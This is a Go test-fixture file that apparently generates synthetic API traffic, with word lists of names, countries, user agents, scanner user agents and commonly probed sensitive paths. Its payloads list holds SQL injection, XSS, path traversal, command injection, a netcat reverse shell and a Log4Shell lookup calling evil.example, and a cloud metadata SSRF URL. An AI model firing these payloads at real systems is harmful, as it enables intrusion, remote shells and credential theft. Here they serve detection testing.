package discoverytest

//nolint:gochecknoglobals // word lists, never written to
var (
	forenames  = []string{"Anna", "Ben", "Carla", "David", "Elena", "Farid", "Greta", "Hugo", "Ines", "Jonas", "Kira", "Liam", "Mona", "Nils", "Olga", "Pedro", "Quinn", "Rosa", "Samir", "Tara", "Uwe", "Vera", "Wanda", "Xavier", "Yuki", "Zoe", "Amir", "Bella", "Chen", "Dora"}
	surnames   = []string{"Adler", "Brown", "Costa", "Dubois", "Evans", "Fischer", "Garcia", "Hansen", "Ivanov", "Jensen", "Kim", "Lopez", "Meyer", "Novak", "Okafor", "Petrov", "Quist", "Rossi", "Silva", "Tanaka", "Ueda", "Vogel", "Weber", "Xu", "Young", "Zhang"}
	nouns      = []string{"alpha", "amber", "anchor", "apple", "arrow", "autumn", "bamboo", "basket", "beacon", "birch", "blue", "bottle", "bridge", "bronze", "cactus", "camera", "candle", "canyon", "carbon", "castle", "cedar", "chair", "cherry", "cliff", "cloud", "cobalt", "copper", "coral", "cotton", "crystal", "dawn", "delta", "desert", "diamond", "dune", "eagle", "ember", "falcon", "feather", "fern", "field", "flame", "forest", "fossil", "garden", "ginger", "glacier", "granite", "green", "harbor", "hazel", "honey", "indigo", "island", "ivory", "jade", "jungle", "lagoon", "lantern", "lemon", "lilac", "linen", "lotus", "magnet", "maple", "marble", "meadow", "mint", "mirror", "moon", "moss", "nectar", "nickel", "north", "oasis", "ocean", "olive", "opal", "orchid", "osprey", "pebble", "pepper", "pine", "planet", "plum", "prairie", "quartz", "rain", "raven", "reef", "river", "ruby", "saffron", "sage", "sand", "scarlet", "shadow", "silver", "sky", "slate", "snow", "spruce", "star", "stone", "storm", "summit", "sunset", "teal", "thunder", "timber", "topaz", "tulip", "valley", "velvet", "violet", "walnut", "water", "willow", "winter", "zephyr"}
	countries  = []string{"US", "DE", "FR", "GB", "IT", "ES", "PL", "NL", "SE", "NO", "DK", "FI", "CH", "AT", "BE", "PT", "JP", "CN", "IN", "BR", "MX", "CA", "AU", "NZ", "ZA", "AE", "SG", "KR", "TR", "IE"}
	currencies = []string{"USD", "EUR", "GBP", "JPY", "CHF", "SEK", "NOK", "DKK", "PLN", "CZK", "CAD", "AUD", "NZD", "INR", "CNY", "BRL", "MXN", "ZAR", "SGD", "HKD"}
	airports   = []string{"FRA", "MUC", "LHR", "CDG", "AMS", "JFK", "LAX", "SFO", "ORD", "ATL", "DXB", "SIN", "HND", "NRT", "SYD", "MAD", "BCN", "FCO", "ZRH", "VIE", "CPH", "ARN", "OSL", "HEL"}
	locales    = []string{"en", "de", "fr", "es", "it", "en-US", "en-GB", "de-DE", "fr-FR", "pt-BR", "ja-JP", "nl", "pl", "sv"}
	agents     = []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
		"okhttp/4.12.0", "python-requests/2.32.3", "Apache-HttpClient/4.5.14 (Java/17.0.11)", "axios/1.7.2", "Go-http-client/1.1", "AHC/1.0", "PostmanRuntime/7.39.0", "curl/8.6.0",
	}
	scannerAgents = []string{"Mozilla/5.0 zgrab/0.x", "gobuster/3.6", "Nuclei - Open-source project", "Mozilla/5.0 (compatible; Nmap Scripting Engine)", "python-requests/2.28.1", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "ffuf/2.1.0"}
	scanned       = []string{
		"/wp-login.php", "/wp-admin/", "/.git/config", "/.git/HEAD", "/.env", "/.env.bak", "/phpmyadmin/", "/pma/index.php", "/admin", "/admin/login", "/administrator/", "/login", "/console", "/manager/html",
		"/actuator", "/actuator/env", "/actuator/heapdump", "/swagger.json", "/swagger-ui.html", "/openapi.json", "/api-docs", "/v2/api-docs", "/graphql", "/backup.zip", "/backup.sql", "/db.sql", "/dump.tar.gz",
		"/config.json", "/config.php", "/server-status", "/cgi-bin/test.cgi", "/shell.php", "/test", "/test.php", "/info.php", "/phpinfo.php", "/xmlrpc.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
		"/api/v1/users", "/api/users", "/api/admin", "/api/internal", "/api/v2/debug", "/internal", "/private", "/old", "/new", "/dev", "/staging", "/tmp", "/uploads/", "/images/", "/js/app.js", "/static/main.css", "/solr/admin/info/system",
		"/HNAP1/", "/boaform/admin/formLogin", "/owa/auth/logon.aspx", "/ecp/default.aspx", "/.aws/credentials", "/.ssh/id_rsa", "/.DS_Store", "/.well-known/security.txt", "/sitemap.xml", "/crossdomain.xml", "/metrics", "/debug/pprof/", "/jenkins/script", "/hudson", "/trace", "/dump", "/users", "/accounts", "/orders", "/customers", "/payments", "/tokens", "/secrets", "/keys",
	}
	payloads = []string{
		"1' OR '1'='1", "1 UNION SELECT username, password FROM users--", "'; DROP TABLE orders;--", "1' AND SLEEP(5)-- -", "admin'--", "1) OR 1=1#", "1' UNION ALL SELECT NULL,NULL,@@version-- ",
		"<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>", "<svg/onload=alert(1)>", "javascript:alert(1)//", "'><script src=//evil.example/x.js></script>",
		"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//etc/shadow", "/etc/passwd%00.png", "..\\..\\windows\\win.ini", "file:///etc/passwd",
		"; cat /etc/passwd", "$(id)", "`whoami`", "| nc evil.example 4444 -e /bin/sh", "${jndi:ldap://evil.example/a}", "{{7*7}}", "http://169.254.169.254/latest/meta-data/",
	}
	tracking = []string{"utm_source", "utm_medium", "utm_campaign", "gclid", "fbclid", "_", "cb"}
)
